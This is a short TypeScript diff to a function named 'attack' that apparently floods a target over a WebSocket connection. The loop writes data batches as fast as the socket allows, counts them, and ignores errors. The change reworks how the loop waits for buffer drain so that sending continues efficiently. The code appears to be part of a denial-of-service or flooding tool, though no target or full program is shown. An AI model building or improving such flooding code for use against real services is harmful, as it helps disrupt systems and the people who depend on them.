@@ -85,7 +85,12 @@ async function attack (url: string): Promise<void> {
     socket.on('error', () => {})
     while (running && ws.readyState === WebSocket.OPEN) {
       stats.sent += BATCH
-      if (!socket.write(batch)) await Promise.race([once(socket, 'drain'), once(ws, 'close')])
+      if (!socket.write(batch)) {
+        await new Promise<void>((resolve) => {
+          socket.once('drain', resolve)
+          ws.once('close', resolve)
+        })
+      }
       else await new Promise((resolve) => setImmediate(resolve))
     }
     ws.terminate()
